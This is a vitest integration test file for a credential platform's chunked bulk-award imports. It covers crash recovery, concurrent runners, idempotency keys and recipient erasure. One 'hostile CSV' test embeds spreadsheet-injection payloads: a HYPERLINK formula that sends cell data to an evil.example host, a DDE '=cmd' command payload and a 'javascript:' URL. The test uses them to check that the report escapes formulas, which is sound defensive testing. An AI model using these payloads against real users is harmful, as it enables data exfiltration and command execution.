/**
 * Bulk awards a chunk per transaction, split into part jobs (issue 18): a chunk killed mid-transaction leaves
 * nothing, two instances' runners share one import without doubling a row (also when both run the same part,
 * as after a lapsed lock), and a hostile CSV gets clear per-row errors and a report a spreadsheet cannot run.
 */
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createJobRunner } from '../../src/adapters/jobs/job-runner.js';
import { aesGcmVault } from '../../src/adapters/keys/key-vault.js';
import { createMailer } from '../../src/adapters/mail/mailer.js';
import { openStorage, type Storage } from '../../src/adapters/storage/db.js';
import { assembleDeps } from '../../src/compose.js';
import { bulkImportJob, bulkPartJob, runBulkPart } from '../../src/domain/bulk/run-bulk-import.js';
import type { Repositories } from '../../src/domain/shared/store.js';
import { ERASED } from '../../src/domain/privacy/erase-recipient.js';
import { recipientKey } from '../../src/domain/recipients/recipient-key.js';
import { BASE_URL, ENGINES, TEST_MASTER_KEY, apiClient, createTestApp, minimalAchievement, minimalIssuer, setupOrganisation, type ApiClient, type TestContext } from '../support/test-app.js';
import { TEST_SCHEMA } from '../support/pg-template.js';

const csvOf = (count: number, from = 0) => ['name,email', ...Array.from({ length: count }, (_, i) => `Learner ${from + i},learner${from + i}@example.org`)].join('\n');

describe.each(ENGINES)('bulk award in chunks and parts (%s)', (engine) => {
  let ctx: TestContext;
  let api: ApiClient;
  let issuerId: string;
  let second: { deps: ReturnType<typeof assembleDeps>; storage: Storage | undefined };

  beforeAll(async () => {
    ctx = await createTestApp(engine);
    api = apiClient(ctx.app, (await setupOrganisation(ctx.app)).apiKey);
    issuerId = (await api.post('/api/v1/issuers', minimalIssuer)).json().id;
    // Another instance: its own composition (key caches, ids, signer) over the same database (PostgreSQL: its own pool).
    const storage = engine === 'postgres' ? openStorage({ databaseUrl: ctx.databaseUrl!, pgSchema: TEST_SCHEMA, poolSize: 4 }) : undefined;
    const deps = assembleDeps({
      storage: storage ?? ctx.storage,
      baseUrl: BASE_URL,
      vault: aesGcmVault(TEST_MASTER_KEY),
      sessionTtlSeconds: 3600,
      mailer: createMailer({ outboxDir: mkdtempSync(join(tmpdir(), 'laurel-outbox-')), from: 'Laurel <test@laurel.test>' }).mailer,
      http: { bodyLimitBytes: 64 * 1024, secureCookies: false, trustProxy: false, logLevel: 'silent' },
    });
    second = { deps, storage };
  });
  afterAll(async () => {
    await second?.deps.untrusted.close();
    await second?.storage?.destroy();
    await ctx?.close();
  });

  const newAchievement = async (name: string) => (await api.post('/api/v1/achievements', { ...minimalAchievement(issuerId), name })).json().id as string;
  const start = async (achievementId: string, csv: string) => {
    const res = await api.post(`/api/v1/achievements/${achievementId}/bulk`, { csv });
    expect(res.statusCode, res.body).toBe(202);
    return res.json().import.id as string;
  };
  const drain = async (handlers = ctx.deps) => {
    const runner = createJobRunner({ queue: ctx.deps.store.jobs, handlers: [bulkImportJob(handlers, { partRows: 20, chunkRows: 5 }), bulkPartJob(handlers, { chunkRows: 5 })], clock: ctx.deps.clock, batchSize: 1 });
    while ((await runner.runOnce()) > 0);
  };
  const count = async (table: 'credentials' | 'bulk_import_results', column: 'achievement_id' | 'import_id', value: string) =>
    Number((await ctx.storage.db.selectFrom(table).select((eb) => eb.fn.countAll<number>().as('n')).where(column, '=', value).executeTakeFirstOrThrow()).n);

  /** Every row the awards of this achievement wrote: each credential's companions, none without its credential. */
  async function written(achievementId: string, importId: string) {
    const db = ctx.storage.db;
    const ids = (await db.selectFrom('credentials').select('id').where('achievement_id', '=', achievementId).execute()).map((r) => r.id);
    const n = async (q: Promise<{ n: number | string | bigint }>) => Number((await q).n);
    const none = ['-'];
    return {
      credentials: ids.length,
      indexes: Number((await db.selectFrom('credentials').select((eb) => eb.fn.count<number>('status_index').distinct().as('n')).where('achievement_id', '=', achievementId).executeTakeFirstOrThrow()).n),
      documents: await n(db.selectFrom('credential_documents').select((eb) => eb.fn.countAll<number>().as('n')).where('credential_id', 'in', ids.length ? ids : none).executeTakeFirstOrThrow()),
      audit: await n(db.selectFrom('audit_log').select((eb) => eb.fn.countAll<number>().as('n')).where('action', '=', 'credential.issue').where('target_id', 'in', ids.length ? ids : none).executeTakeFirstOrThrow()),
      events: await n(db.selectFrom('credential_events').select((eb) => eb.fn.countAll<number>().as('n')).where('type', '=', 'issued').where('credential_id', 'in', ids.length ? ids : none).executeTakeFirstOrThrow()),
      keys: await n(db.selectFrom('idempotency_keys').select((eb) => eb.fn.countAll<number>().as('n')).where('key', 'like', `bulk:${importId}:%`).executeTakeFirstOrThrow()),
      results: await count('bulk_import_results', 'import_id', importId),
    };
  }
  // One document per credential: the OB 3.0 form (the VC-JWT and OB 2.0 JWS are made on first request).
  const whole = (n: number) => ({ credentials: n, indexes: n, documents: n, audit: n, events: n, keys: n, results: n });

  it('a chunk killed mid-transaction (its rows written, not committed) leaves nothing of it, and is redone', async () => {
    const achievementId = await newAchievement('Killed chunk');
    const id = await start(achievementId, csvOf(15));
    // The second chunk's transaction dies after writing everything (credentials, documents, keys, results), before its commit.
    let chunks = 0;
    const dying = {
      ...ctx.deps,
      store: {
        ...ctx.deps.store,
        transaction: <T>(fn: (tx: Repositories) => Promise<T>) =>
          ctx.deps.store.transaction(async (tx) => {
            const recordResults: Repositories['bulkAwards']['recordResults'] = async (b) => {
              await tx.bulkAwards.recordResults(b);
              if (++chunks === 2) throw new Error('killed mid-transaction');
            };
            return fn({ ...tx, bulkAwards: { ...tx.bulkAwards, recordResults } });
          }),
      },
    };
    await expect(
      runBulkPart(dying, { importId: id, role: 'owner', rows: Array.from({ length: 15 }, (_, i) => i + 2), chunkRows: 5, chunksInFlight: 1 }),
    ).rejects.toThrow('killed mid-transaction');
    expect(await written(achievementId, id)).toEqual(whole(5));
    expect((await api.get(`/api/v1/bulk-imports/${id}`)).json()).toMatchObject({ processed: 5, status: 'running' });

    // The job's retry (the whole import: its rows with a result are skipped) finishes it.
    await drain();
    expect(await written(achievementId, id)).toEqual(whole(15));
    const done = (await api.get(`/api/v1/bulk-imports/${id}`)).json();
    expect(done).toMatchObject({ status: 'done', total: 15, processed: 15, failed: 0 });
    expect(new Set(done.results.map((r: { credentialId: string }) => r.credentialId)).size).toBe(15);

    // Erasing a recipient erases their address from the per-row results too (found by its blind index).
    const orgId = (await ctx.storage.db.selectFrom('bulk_imports').select('org_id').where('id', '=', id).executeTakeFirstOrThrow()).org_id;
    await ctx.deps.store.transaction(async (tx) => tx.privacy.eraseRecipientData(await tx.privacy.credentialsOfRecipient(orgId, recipientKey(orgId, 'email', 'learner3@example.org')), ERASED));
    const after = (await api.get(`/api/v1/bulk-imports/${id}`)).json();
    expect(after.results.find((r: { row: number }) => r.row === 5)).toMatchObject({ email: ERASED, status: 'issued' });
    expect(JSON.stringify(after)).not.toContain('learner3@');
    expect(JSON.stringify(after)).toContain('learner4@example.org');
    const stored = await ctx.storage.db.selectFrom('bulk_import_results').select(['email', 'email_index']).where('id', '=', `${id}:5`).executeTakeFirstOrThrow();
    expect(stored.email_index).toBeNull();
    expect(stored.email).not.toContain('learner3');
  });

  it('two instances\' runners share one import\'s parts; none lost or doubled', async () => {
    const achievementId = await newAchievement('Shared import');
    const id = await start(achievementId, csvOf(100));
    const ran: string[] = [];
    // Runner one's first part waits (at most 10 s) until runner two has started one: sharing is shown, not left to
    // timing, and a part that kept the event loop to itself (synchronous statements and signatures settle as
    // microtasks) would starve runner two's polls here.
    let twoStarted!: () => void;
    const twoTookAPart = new Promise<void>((resolve) => (twoStarted = resolve));
    let partsOfOne = 0;
    const runnerOf = (name: string, deps: typeof ctx.deps) => {
      const tag = <H extends { handle: (...a: never[]) => Promise<unknown> }>(h: H, part: boolean): H => ({
        ...h,
        handle: (async (...a: never[]) => {
          ran.push(name);
          if (part && name === 'two') twoStarted();
          if (part && name === 'one' && partsOfOne++ === 0) await Promise.race([twoTookAPart, new Promise((r) => setTimeout(r, 10_000))]);
          return h.handle(...a);
        }) as H['handle'],
      });
      return createJobRunner({ queue: deps.store.jobs, handlers: [tag(bulkImportJob(deps, { partRows: 20, chunkRows: 5 }), false), tag(bulkPartJob(deps, { chunkRows: 5, chunksInFlight: 2 }), true)], clock: deps.clock, workerId: name, concurrency: 2, pollMs: 10 });
    };
    const runners = [runnerOf('one', ctx.deps), runnerOf('two', second.deps)];
    for (const r of runners) r.start();
    for (let i = 0; i < 600 && (await api.get(`/api/v1/bulk-imports/${id}`)).json().status !== 'done'; i++) await new Promise((r) => setTimeout(r, 50));
    await Promise.all(runners.map((r) => r.stop()));
    expect(new Set(ran)).toEqual(new Set(['one', 'two']));
    expect(ran.length).toBe(6); // the import's job, then its five parts
    expect(await written(achievementId, id)).toEqual(whole(100));
    expect((await api.get(`/api/v1/bulk-imports/${id}`)).json()).toMatchObject({ status: 'done', total: 100, processed: 100, failed: 0 });
  });

  it('two instances running the same part at once (a lapsed lock) award each row once', async () => {
    const achievementId = await newAchievement('Raced part');
    const id = await start(achievementId, csvOf(24));
    const rows = Array.from({ length: 24 }, (_, i) => i + 2);
    const results = await Promise.all([
      runBulkPart(ctx.deps, { importId: id, role: 'owner', rows, chunkRows: 4, chunksInFlight: 2 }),
      runBulkPart(second.deps, { importId: id, role: 'owner', rows, chunkRows: 4, chunksInFlight: 2 }),
    ]);
    expect(results[0]!.processed + results[1]!.processed).toBe(24);
    expect(await written(achievementId, id)).toEqual(whole(24));
    expect((await api.get(`/api/v1/bulk-imports/${id}`)).json()).toMatchObject({ status: 'done', processed: 24, failed: 0 });
  });

  it('a row\'s Idempotency-Key taken first through the API with another body: that row fails, it is not answered with that credential', async () => {
    const achievementId = await newAchievement('Pre-claimed key');
    const id = await start(achievementId, csvOf(3));
    const other = await api.post('/api/v1/credentials', { achievementId, recipient: { email: 'someone-else@example.org' } }, { 'idempotency-key': `bulk:${id}:3` });
    expect(other.statusCode, other.body).toBe(201);
    await drain();
    const done = (await api.get(`/api/v1/bulk-imports/${id}`)).json();
    expect(done).toMatchObject({ status: 'done', processed: 3, failed: 1 });
    const row3 = done.results.find((r: { row: number }) => r.row === 3);
    expect(row3).toMatchObject({ status: 'failed', email: 'learner1@example.org' });
    expect(row3.credentialId).toBeUndefined();
    expect(row3.error).toMatch(/Idempotency-Key/);
  });

  it('a hostile CSV: malformed and oversized rows get clear per-row errors, formulas stay text in the report, an oversized upload is a problem', async () => {
    const achievementId = await newAchievement('Hostile CSV');
    const csv = [
      'name,email,evidence url,issued date',
      'Good,good@example.org,,',
      '"=HYPERLINK(""https://evil.example/?""&A1)",=cmd|\' /C calc\'!A0@example.org,,',
      `${'x'.repeat(5000)},long@example.org,javascript:alert(1),`,
      'Bad date,bad-date@example.org,,31/31/2026',
      '"Quote ""in"" middle",quote@example.org,,',
      ',,,',
      '+SUM(1;2),plus@example.org,,',
    ].join('\n');
    const preview = await api.post(`/api/v1/achievements/${achievementId}/bulk`, { csv, dryRun: true });
    expect(preview.statusCode, preview.body).toBe(200);
    const rows = preview.json().rows as Array<{ row: number; errors: string[] }>;
    const errorsOf = (row: number) => rows.find((r) => r.row === row)?.errors.join(' ') ?? '';
    expect(errorsOf(3)).toMatch(/e-?mail/i);
    expect(errorsOf(4)).toMatch(/evidence URL/i);
    expect(errorsOf(5)).toMatch(/date/i);
    expect(errorsOf(2)).toBe('');

    const id = await start(achievementId, csv);
    await drain();
    const done = (await api.get(`/api/v1/bulk-imports/${id}`)).json();
    expect(done.status).toBe('done');
    expect(done.processed).toBe(done.total);
    const report = (await api.get(`/api/v1/bulk-imports/${id}/report.csv`)).body;
    // A cell a spreadsheet would run as a formula is quoted and prefixed: it stays text.
    expect(report).not.toMatch(/(^|,)[=+\-@]/m);
    expect(report).toContain(`"'=cmd|`);

    const malformed = await api.post(`/api/v1/achievements/${achievementId}/bulk`, { csv: 'name,email\n"unterminated,a@example.org\n', dryRun: true });
    expect(malformed.statusCode).toBe(400);
    expect(malformed.headers['content-type']).toContain('application/problem+json');
    expect(malformed.body).not.toMatch(/at .*\.ts:\d+/);

    // Over the bulk upload's own limit (16 MiB: 100,000 rows fit; bulk-large.test.ts).
    const huge = await api.post(`/api/v1/achievements/${achievementId}/bulk`, { csv: `name,email\n${'a,b@example.org\n'.repeat(1_100_000)}` });
    expect(huge.statusCode).toBe(413);
    expect(huge.headers['content-type']).toContain('application/problem+json');
  });
});
